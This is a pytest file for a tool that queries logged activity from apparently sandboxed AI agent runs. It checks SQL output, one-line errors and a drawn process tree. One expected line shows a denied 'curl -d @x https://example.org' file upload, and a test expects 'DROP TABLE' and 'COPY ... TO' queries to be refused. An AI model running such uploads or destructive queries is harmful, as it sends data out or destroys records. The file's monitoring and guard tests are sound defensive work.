"""Commands that ask the lake, on a real one: answers, forms, and one line for what is wrong."""

import json

import pyarrow.parquet as pq
import pytest


def test_sql_answers_as_the_rows_were_written(lictor, lake, made):
    ended = lictor(
        "sql",
        "--lake",
        lake,
        "SELECT operation, exe, path, dst_port, verdict, time FROM activity ORDER BY time_ns",
        "--format",
        "json",
    )
    rows = json.loads(ended.out)
    assert (ended.status, ended.err) == (0, "")
    assert [r["operation"] for r in rows] == [r["operation"] for r in made.rows()]
    assert [r["path"] for r in rows] == [r.get("path") for r in made.rows()]
    assert rows[0]["time"] == "2026-09-21T14:13:20.000000Z"


def test_output_goes_to_a_file_in_the_format_of_its_ending(lictor, lake, tmp_path):
    target = tmp_path / "rows.parquet"
    assert lictor("sql", "--lake", lake, "SELECT * FROM activity", "-o", target).out == ""
    assert pq.read_table(target).num_rows == 20


@pytest.mark.parametrize(
    ("query", "said"),
    [
        ("SELECT nosuch FROM activity", "nosuch"),
        ("DROP TABLE activity", ""),
        ("COPY activity TO '/tmp/x.csv'", ""),
        ("SELECT FROM WHERE", "rror"),
    ],
)
def test_a_query_that_fails_is_one_line(lictor, lake, query, said):
    ended = lictor("sql", "--lake", lake, query)
    assert (ended.status, ended.out) == (2, "")
    assert len(ended.err.splitlines()) == 1
    assert said in ended.err


def test_a_query_without_end_is_stopped(lictor, lake):
    ended = lictor(
        "sql",
        "--lake",
        lake,
        "--timeout",
        "0.5",
        "SELECT count(*) FROM range(1000000000) a, range(1000) b WHERE a.range * b.range = 7",
    )
    assert ended.status == 2
    assert "took longer than 0.5 s" in ended.err


def test_no_lake_is_one_line(lictor, tmp_path):
    for command in (["sql", "SELECT 1"], ["runs"], ["show", "last"]):
        ended = lictor(*command, "--lake", tmp_path / "none")
        assert (ended.status, len(ended.err.splitlines())) == (2, 1)
        assert "no lake there yet" in ended.err


def test_runs_carry_their_id(lictor, lake, made):
    rows = json.loads(lictor("runs", "--lake", lake, "--format", "json").out)
    assert [(r["run"], r["denied"], r["exit_code"], r["agent"]) for r in rows] == [(made.run, 4, 7, "codex")]
    assert made.run in lictor("runs", "--lake", lake).out


def test_show_draws_the_run_without_a_raw_name(lictor, lake, made):
    ended = lictor("show", made.run[:5], "--lake", lake)
    assert ended.status == 0
    assert "└─ 4004 curl -d @x https://example.org  2 connections  2 DENIED  exit 7" in ended.out
    assert "DENY by keys" in ended.out
    assert "\x1b" not in ended.out
    assert "\u202e" not in ended.out


def test_show_as_json_has_all_three_parts(lictor, lake, made):
    found = json.loads(lictor("show", "last", "--lake", lake, "--format", "json").out)
    assert found["run"]["run"] == made.run
    assert {p["pid"] for p in found["processes"]} == {4001, 4002, 4003, 4004, 4005}
    assert sum(r["count"] for r in found["timeline"]) + found["hidden"] == 20


def test_show_refuses_what_it_cannot_do(lictor, lake):
    assert lictor("show", "last", "--lake", lake, "--format", "csv").status == 2
    assert "no run begins with 'zzz'" in lictor("show", "zzz", "--lake", lake).err
